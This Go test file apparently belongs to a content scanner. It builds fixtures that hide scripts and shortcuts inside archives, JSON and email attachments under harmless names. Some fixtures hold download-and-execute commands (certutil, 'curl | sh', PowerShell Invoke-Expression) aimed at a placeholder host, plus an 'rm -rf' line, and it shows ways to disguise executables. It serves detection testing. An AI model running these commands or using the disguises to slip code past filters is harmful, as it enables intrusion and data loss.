package canary

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
)

// guises are programs, shortcuts and queries by what stands in them, whatever they are called.
var guises = map[string]string{
	"batch":           "@echo off\r\nrem set up\r\nset A=CANARY\r\n%A%\r\n",
	"batch commands":  "cd %TEMP%\r\nif exist CANARY.exe del CANARY.exe\r\ncertutil -urlcache -f https://CANARY.example/a a.exe\r\nstart \"\" a.exe\r\n",
	"shell":           "#!/bin/sh\nrm -rf \"$HOME/CANARY\"\n",
	"shell commands":  "export URL=https://CANARY.example/\ncurl -s $URL | sh\n",
	"PowerShell":      "$c = New-Object Net.WebClient\r\nInvoke-Expression $c.DownloadString('https://CANARY.example/')\r\n",
	"VBScript":        "Option Explicit\r\nDim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"CANARY\", 0\r\n",
	"JScript":         "var s = new ActiveXObject('WScript.Shell');\r\ns.Run('CANARY');\r\n",
	"Windows script":  "<?xml version=\"1.0\"?>\r\n<package><job id=\"a\"><script language=\"JScript\">CANARY</script></job></package>",
	"HTA":             "<html><head><hta:application id=\"a\" applicationname=\"CANARY\"/></head><body><p>x</p></body></html>",
	"Python":          "import os\nimport sys\n\ndef main():\n    os.system('CANARY')\n\nmain()\n",
	"internet link":   "[InternetShortcut]\r\nURL=file://CANARY/a\r\n",
	"Explorer":        "[Shell]\r\nCommand=2\r\nIconFile=\\\\CANARY\\a.ico\r\n",
	"registry":        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n\"a\"=\"CANARY\"\r\n",
	"web query":       "WEB\r\n1\r\nhttps://CANARY.example/\r\n",
	"desktop entry":   "[Desktop Entry]\nType=Application\nName=a\nExec=CANARY\n",
	"PostScript":      "%!PS-Adobe-3.0\n(CANARY) (r) file run\nshowpage\n",
	"Access database": "\x00\x01\x00\x00Standard ACE DB\x00CANARY",
	"XAML":            `<Page xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml"><x:Code>CANARY</x:Code></Page>`,
	"XUL":             `<?xml version="1.0"?><window xmlns="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul"><label onclick="CANARY"/></window>`,
}

// guiseRows put programs under harmless names into archives and mails, and without any name into what is packed by itself, where
// a text takes their place, and into fields of data, where they have no safe form.
func guiseRows(tb testing.TB) (rows []row) {
	tb.Helper()
	text := strings.Join(sentences, " ")
	add := func(ext, what, guise string, wrap func(program string) []byte) {
		rows = append(rows, row{what: what, ext: ext, none: ext == "json" || ext == "txt", make: func(c string) []byte {
			return wrap(strings.ReplaceAll(guise, "CANARY", c))
		}})
		if last := &rows[len(rows)-1]; !last.none && ext != "gz" {
			last.shown = sentences
		}
	}
	for what, guise := range guises {
		add("zip", what+" called a text", guise, func(p string) []byte { return zipped(tb, "readme.txt", text, "d/notes.txt", p) })
		add("gz", what, guise, func(p string) []byte { return gzipped(tb, []byte(p)) })
		add("json", what, guise, func(p string) []byte {
			b, err := json.Marshal(map[string]string{"data": base64.StdEncoding.EncodeToString([]byte(p))})
			if err != nil {
				tb.Fatal(err)
			}
			return b
		})
	}
	for _, what := range []string{"batch", "VBScript"} { // as for the others
		guise := guises[what]
		add("zip", what+" without an extension", guise, func(p string) []byte { return zipped(tb, "readme.txt", text, "notes", p) })
		add("tar", what+" called a log", guise, func(p string) []byte { return tarredTwo(tb, text, "a.log", p) })
		add("txt", what, guise, func(p string) []byte { return []byte(p) })
		add("eml", what+" called a text", guise, func(p string) []byte { return guiseMail("\r\n", "", p) })
		add("eml", what+" in a mail of lone CR", guise, func(p string) []byte { return guiseMail("\r", "", p) })
		add("eml", what+" under two encodings", guise, func(p string) []byte { return guiseMail("\r\n", "Content-Transfer-Encoding: 7bit\r\n", p) })
	}
	return rows
}

// guiseMail attaches a program as a text to a mail, in which lines end so; more stands behind the fields of its part.
func guiseMail(eol, more, program string) []byte {
	mail := "From: a@example.org\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_b\"\r\n\r\n" +
		"--=_b\r\nContent-Type: text/plain\r\n\r\n" + strings.Join(sentences, " ") + "\r\n" +
		"--=_b\r\nContent-Type: text/plain; name=\"notes.txt\"\r\nContent-Transfer-Encoding: base64\r\n" + more + "\r\n" +
		base64.StdEncoding.EncodeToString([]byte(program)) + "\r\n--=_b--\r\n"
	return []byte(strings.ReplaceAll(mail, "\r\n", eol))
}

// tarredTwo packs a text, and beside it a file of that name.
func tarredTwo(tb testing.TB, text, name, body string) []byte {
	tb.Helper()
	const end = 1024
	first := tarred(tb, "readme.txt", []byte(text))
	return append(first[:len(first)-end:len(first)-end], tarred(tb, name, []byte(body))...)
}
